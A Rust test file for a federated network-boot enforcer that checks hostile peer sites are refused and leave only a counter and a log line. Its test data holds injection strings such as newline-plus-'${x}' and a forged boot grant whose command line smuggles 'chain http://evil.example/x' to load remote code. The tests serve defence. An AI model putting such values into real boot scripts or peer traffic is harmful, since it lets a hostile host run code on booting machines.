//! What a hostile site sends changes nothing but a counter and a log line.

use std::time::Duration;

use enforcer::{
    metrics::{Counter, PeerCounter},
    state::{
        Key, View, Write,
        audit::ANSWERED,
        machine::Standing,
        ops::{RevokePeer, TakeMacs},
        peer::NamedMacs,
    },
};
use futures_util::{FutureExt as _, future::BoxFuture};
use mesh_net::PeerLink;
use mesh_proto::message::peer::{Evidence, Outcome, PeerAsk, PeerReply, Question};

use crate::{
    is_local, logged,
    town::{MAC, Town},
    villain::{Den, grant, offers},
};

const SOON: Duration = Duration::from_secs(10);

/// What is known, without what only says when: sites and machines go on living meanwhile. Nor with the line of the audit that says
/// what a person of this site asked for.
async fn known(town: &Town) -> View {
    town.site.store.flush().await.unwrap();
    let mut view = View::clone(&town.site.view());
    let asked = view.events_after(0).filter(|e| e.draft.kind == ANSWERED);
    for seq in asked.map(|e| e.seq).collect::<Vec<_>>() {
        view.absorb(&Write::Delete(Key::Event(seq)));
    }
    view
}

/// Does something; afterwards one counter has gone up, one line was logged, and nothing else is other than it was.
async fn check(
    town: &Town,
    site: &str,
    (what, counter, label): (&str, PeerCounter, &str),
    does: impl Future<Output = ()>,
) {
    let counter = Counter::Peer(counter);
    let words = ["enforcer::federation", &format!("site={site}")];
    let (before, counted) = (known(town).await, town.metrics.value(counter, label));
    let lines = logged::count(&words);
    does.await;
    logged::more(what, lines, &words).await;
    let now = town.metrics.value(counter, label);
    assert!(now > counted, "{what}: {counter:?} {label}");
    assert!(known(town).await == before, "{what} changed something");
}

type Does = for<'a> fn(&'a PeerLink, &'a str) -> BoxFuture<'a, ()>;
type Row = (&'static str, PeerCounter, &'static str, Does);

fn question(mac: &str, visited: &[&str]) -> PeerAsk {
    PeerAsk::Claim(Question {
        mac: mac.to_owned(),
        arch: None,
        session: Some("x".repeat(10_000)),
        visited: visited.iter().map(ToString::to_string).collect(),
        hops: 255,
    })
}

fn asks(link: &PeerLink, ask: PeerAsk) -> BoxFuture<'_, ()> {
    async move {
        let answer = link.ask(&ask, SOON).await;
        let given = |reply: &PeerReply| !matches!(reply, PeerReply::Nothing { .. });
        assert!(!answer.as_ref().is_ok_and(given), "{answer:?}");
    }
    .boxed()
}

fn evidence(nonce: &str) -> PeerAsk {
    PeerAsk::Evidence(Evidence {
        nonce: nonce.to_owned(),
        outcome: Outcome::Confirmed,
        reason: "forged\n${x}".to_owned(),
    })
}

/// What it may ask, and how that is counted.
const ASKED: [Row; 9] = [
    ("huge", PeerCounter::Answered, "unreadable", |link, _| {
        let macs = vec!["52:54:00:00:00:01".to_owned(); 40_000];
        asks(link, PeerAsk::Macs { macs })
    }),
    ("too many", PeerCounter::Answered, "refused", |link, _| {
        let macs = (0..4_097).map(|n| format!("5254{n:08x}")).collect();
        asks(link, PeerAsk::Macs { macs })
    }),
    ("injecting", PeerCounter::Answered, "refused", |link, _| {
        let macs = vec!["52:54:00:00:00:01\n${x}".to_owned()];
        asks(link, PeerAsk::Macs { macs })
    }),
    (
        "no machine",
        PeerCounter::Answered,
        "answered",
        |link, _| asks(link, question("${net0/mac}", &[])),
    ),
    (
        "not its own",
        PeerCounter::Answered,
        "answered",
        |link, _| asks(link, question(&MAC.to_string(), &["site-a"])),
    ),
    ("looping", PeerCounter::Answered, "answered", |link, _| {
        asks(link, question(&MAC.to_string(), &["site-b"]))
    }),
    (
        "forging",
        PeerCounter::Answered,
        "refused",
        |link, nonce| asks(link, evidence(nonce)),
    ),
    (
        "stealing",
        PeerCounter::Answered,
        "refused",
        |link, nonce| {
            let nonce = nonce.to_owned();
            asks(
                link,
                PeerAsk::File {
                    nonce,
                    index: 0,
                    from: 0,
                },
            )
        },
    ),
    ("no frame", PeerCounter::Frames, "malformed", |link, _| {
        // Sent when it is waited for: what was logged before that does not count.
        async move { assert!(link.send_frame(b"\xff\xff\xff")) }.boxed()
    }),
];

#[tokio::test(flavor = "multi_thread")]
async fn what_a_hostile_site_asks_changes_nothing_but_a_counter_and_a_log_line() {
    logged::listen();
    let b = Town::start("site-b").await;
    let (_den, link) = Den::joined_as("site-mallory", &b).await;
    b.owns(MAC).await;
    let armed = b.arms("quiet").await;
    for (what, counter, label, does) in ASKED {
        let nonce = armed.nonce.to_string();
        let does = does(&link, &nonce);
        check(&b, "site-mallory", (what, counter, label), does).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_hostile_site_answers_changes_nothing_but_a_counter_and_a_log_line() {
    logged::listen();
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined_as("site-liar", &a).await;
    let site = "site-liar".parse().unwrap();
    let lists = async {
        let (status, listed) = a.site.api("/machines?site=site-liar").await;
        assert_eq!(
            (status, listed["items"].as_array().unwrap().len()),
            (200, 0)
        );
    };
    let rejected = PeerCounter::Rejected;
    check(&a, "site-liar", ("rows", rejected, "rows"), lists).await;
    let watches = async {
        let mut watched = a.federation().watch_events(&site, None).await.unwrap();
        watched.next().await.unwrap_err();
    };
    check(&a, "site-liar", ("events", rejected, "events"), watches).await;
    let pulls = async {
        let wanted = serde_json::json!({ "site": "site-liar", "image": "debian" });
        let (status, pull) = a.site.post("/image-pulls", &wanted).await;
        assert_eq!(status, 202, "{pull}");
    };
    check(&a, "site-liar", ("image", rejected, "image"), pulls).await;
    assert!(a.site.view().images().next().is_none());
    // Looking, for `explain`: it says something else than it was asked.
    den.says(|_| Some(PeerReply::Noted));
    let explains = async {
        let (plan, why) = a.explains().await;
        assert_eq!(why, "site-liar: its answer makes no sense", "{plan}");
    };
    check(&a, "site-liar", ("answer", rejected, "answer"), explains).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_grant_that_lies_leaves_its_reason_in_the_machines_story_and_nothing_else() {
    logged::listen();
    let a = Town::start("site-a").await;
    let (den, _link) = Den::joined_as("site-fraud", &a).await;
    let mut bad = grant();
    bad.cmdline = "quiet\nchain http://evil.example/x".to_owned();
    den.says(offers(bad));
    let lines = logged::count(&["site=site-fraud", "what=\"grant\""]);
    let script = a.site.script(MAC, "s1").await;
    assert!(is_local(&script) && !script.contains("evil"), "{script}");
    logged::more("a grant", lines, &["site=site-fraud", "what=\"grant\""]).await;
    let rejected = Counter::Peer(PeerCounter::Rejected);
    assert_eq!(a.metrics.value(rejected, "grant"), 1);
    let view = known(&a).await;
    assert_eq!(view.activations().count(), 0);
    // Its own question made it that.
    let machine = view.machine_by_mac(MAC).unwrap();
    assert_eq!(machine.standing, Standing::Seen);
    let mut events = view.events_after(0);
    let told = events.find(|e| e.draft.kind == "boot.peers-asked").unwrap();
    let text = &told.draft.text;
    assert!(
        text.contains("site-fraud: its grant is not taken: its command line"),
        "{text}"
    );
    // It still offers, and `explain` says beside it what came of that.
    let (plan, offers) = a.explains_by("peers").await;
    assert_eq!(
        (plan.as_str(), offers.as_deref()),
        ("ask-peers", Some("site-fraud: offers live"))
    );
    let (_, last) = a.explains_by("last-time").await;
    assert!(last.as_ref().is_some_and(|l| l.ends_with(text)), "{last:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_revoked_site_gets_no_answer_and_changes_nothing_over_the_link_that_it_holds() {
    logged::listen();
    let b = Town::start("site-b").await;
    let (_den, link) = Den::joined_as("site-gone", &b).await;
    let site = "site-gone".parse().unwrap();
    // It asks without a pause while it is revoked.
    let asker = tokio::spawn(async move {
        let (mut taken, macs) = (0, vec!["52:54:00:00:00:07".to_owned()]);
        while let Ok(PeerReply::Noted) = link.ask(&PeerAsk::Macs { macs: macs.clone() }, SOON).await
        {
            taken += 1;
        }
        (taken, link)
    });
    let named = enforcer::state::peer::SiteName::clone(&site);
    b.until("it is heard", |v| {
        let macs = v.named_by(&named).map(|n| n.macs.clone());
        macs.is_some_and(|m| m.iter().any(|mac| mac.0[5] == 7))
    })
    .await;
    let by = "ann".to_owned();
    let site_gone = enforcer::state::peer::SiteName::clone(&site);
    b.site
        .apply(RevokePeer {
            site: site_gone,
            by,
        })
        .await
        .unwrap();
    assert!(b.site.view().named_by(&site).is_none());
    let (taken, link) = asker.await.unwrap();
    assert!(taken > 0, "before it was revoked it was heard");
    assert!(link.ask(&evidence(&"0".repeat(32)), SOON).await.is_err());
    assert!(
        b.site.view().named_by(&site).is_none(),
        "from the next packet on"
    );
    let late = NamedMacs {
        site,
        macs: [MAC].into(),
    };
    assert!(
        !b.site.apply(TakeMacs(late)).await,
        "nor from one that was under way"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_invitation_that_is_shown_again_is_counted_and_admits_nobody() {
    logged::listen();
    let (b, eve) = (Town::start("site-b").await, Town::start("site-eve").await);
    let text = b.invites().await;
    let a = Town::start("site-a").await;
    a.federation().join(&text, "bob".to_owned()).await.unwrap();
    let lines = logged::count(&["an invitation is not taken", "used already"]);
    let refused = eve.federation().join(&text, "eve".to_owned()).await;
    assert!(refused.is_err(), "{refused:?}");
    logged::more(
        "used again",
        lines,
        &["an invitation is not taken", "used already"],
    )
    .await;
    assert_eq!(
        b.metrics
            .value(Counter::Peer(PeerCounter::Rejected), "invitation"),
        1
    );
    let peers: Vec<String> = b.site.view().peers().map(|p| p.site.to_string()).collect();
    assert_eq!(peers, ["site-a"]);
}
